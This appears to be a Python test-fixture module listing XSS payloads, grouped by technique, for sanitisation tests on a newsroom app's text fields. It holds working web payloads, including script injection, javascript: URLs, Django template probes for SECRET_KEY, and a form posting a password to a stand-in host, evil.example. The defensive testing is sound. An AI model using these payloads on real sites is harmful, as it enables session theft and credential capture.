"""
Hostile input: XSS payloads for every text field the newsroom accepts.

Each payload that would execute calls alert(1) or sets window.__xss = 1, so a browser test can listen
for either; the others (template tags, links and frames to other sites, styles) must show as plain
text or be removed. The list is shared: the admin stories in this package submit every payload into every
text field, and the browser tests load the pages they produce.

A few payloads carry a NUL byte: PostgreSQL text columns cannot store it, and Django's form fields
refuse it ("Null characters are not allowed."). PAYLOADS_WITHOUT_NUL is the list for places that
take only storable text.
"""

NUL = "\x00"
RLO = "\u202e"  # right-to-left override
ZWSP = "\u200b"  # zero-width space
ZWNJ = "\u200c"  # zero-width non-joiner, common in Persian
ZWJ = "\u200d"
BOM = "\ufeff"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>window.__xss=1</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<<script>alert(1)//<</script>",
    '<script>document.write("<img src=x onerror=alert(1)>")</script>',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src/onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    '<img src="x" alt="" onload="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<details open ontoggle=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<p onmouseover="window.__xss=1">hover me</p>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<div style=\"width:100px;height:100px\" onpointerenter='alert(1)'>x</div>",
    "<img src=x onerror\u000c=alert(1)>",
    '<img src=x onerror="javascript:alert(1)">',
    "<strong onclick=alert(1)>bold</strong>",
    '<blockquote onmouseenter="window.__xss=1">quote</blockquote>',
    "<h2 onanimationstart=alert(1) style=animation-name:x>heading</h2>",
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="java\nscript:alert(1)">link</a>',
    '<a href="java\rscript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">link</a>',
    '<a href="javascript&colon;alert(1)">link</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    ':alert(1)">x</a>',
    '<a href="javascript:window.__xss=1">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">link</a>',
    '<a href="vbscript:alert(1)">link</a>',
    '<a href="VBScript:alert(1)">link</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="\x01javascript:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">link</a>',
    '<a href="jav&#x0A;ascript:alert(1)">link</a>',
    '<a href="javascript://%0aalert(1)">link</a>',
    "javascript:alert(1)",
    'https://example.org/"><script>alert(1)</script>',
    "data:text/html,<script>alert(1)</script>",
    '<a href="//evil.example" target="_blank">tabnabbing</a>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><style>@import'javascript:alert(1)';</style></svg>",
]

EMBEDDING_ELEMENTS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.window.__xss=1</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">send</button></form>',
    '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<applet code="javascript:alert(1)"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<portal src="javascript:alert(1)"></portal>',
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image: url(&quot;javascript:alert(1)&quot;)">x</p>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    '<div style="behavior: url(xss.htc)">x</div>',
    '<div style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</div>',
    "<style>/*</style><img src=x onerror=alert(1)>*/</style>",
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    '<img src="x" onerror="alert(1)',
    "<script>alert(1)",
    "<a href='javascript:alert(1)'>unclosed",
    "<p><b><i>unclosed tags",
    "<</p>><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<div<img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<a href="https://example.org" title=\'"><img src=x onerror=alert(1)>\'>link</a>',
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="window.__xss=1" x="',
    '" style="animation-name:x" onanimationstart="alert(1)',
    '"/><img src=x onerror=alert(1)>',
    "`onmouseover=alert(1)`",
    '";alert(1);//',
    "';alert(1);//",
    '\\";alert(1);//',
    "</script><script>window.__xss=1</script>",
    '"}]);alert(1);//',
    "${alert(1)}",
]

TEMPLATE_INJECTION = [
    "{{ 7|add:7 }}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    "{% include 'admin/base.html' %}",
    "{{ '<script>alert(1)</script>'|safe }}",
    "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[[${alert(1)}]]",
]

UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth < and >
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    f'<a href="https://example.org/{RLO}gpj.exe">photo{RLO}gpj.exe</a>',
    f"{RLO}<script>alert(1)</script>",
    f"<scr{ZWSP}ipt>alert(1)</scr{ZWSP}ipt>",
    f'<a href="java{ZWSP}script:alert(1)">link</a>',
    f"<img src=x on{ZWJ}error=alert(1)>",
    f"{BOM}<script>alert(1)</script>",
    "<script>alert(1)</script>" + NUL,
    f"<scr{NUL}ipt>alert(1)</scr{NUL}ipt>",
    f'<a href="java{NUL}script:alert(1)">link</a>',
    f"<img src=x o{NUL}nerror=alert(1)>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<ſcript>alert(1)</ſcript>",  # long s, which some uppercasing maps to S
    "<İmg src=x onerror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    "\ud7ff<img src=x onerror=alert(1)>",
]

PERSIAN_MIXED = [
    "سلام<script>alert(1)</script>دنیا",
    f"خبر{ZWNJ}ها <img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">پیوند مهم</a>',
    "«نقل قول» <svg onload=alert(1)>",
    '" onmouseover="alert(1)" title="سرخط',
    f"{RLO}سرخط<script>window.__xss=1</script>",
    "<p onclick=alert(1)>بند نخست، با ویرگول فارسی؛ و پرسش؟</p>",
    "کتاب علي و كتاب علی <iframe src=javascript:alert(1)>",
    "{{ 7|add:7 }} نام نویسنده",
    "۱۲۳<img src=x onerror=alert(1)>۴۵۶",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG_AND_MATHML,
    *EMBEDDING_ELEMENTS,
    *CSS,
    *BROKEN_MARKUP,
    *ATTRIBUTE_BREAKOUTS,
    *TEMPLATE_INJECTION,
    *UNICODE_TRICKS,
    *PERSIAN_MIXED,
]

PAYLOADS_WITHOUT_NUL: list[str] = [payload for payload in PAYLOADS if NUL not in payload]


def packed(limit: int, *, reverse_order: bool = False) -> list[str]:
    """Return every payload (none with a NUL byte: forms refuse those), packed into values of at most `limit`."""
    payloads = list(reversed(PAYLOADS_WITHOUT_NUL)) if reverse_order else list(PAYLOADS_WITHOUT_NUL)
    chunks, current = [], ""
    for payload in payloads:
        payload = payload[:limit].strip()
        candidate = f"{current} {payload}" if current else payload
        if len(candidate) <= limit:
            current = candidate
        else:
            chunks.append(current)
            current = payload
    chunks.append(current)
    return chunks
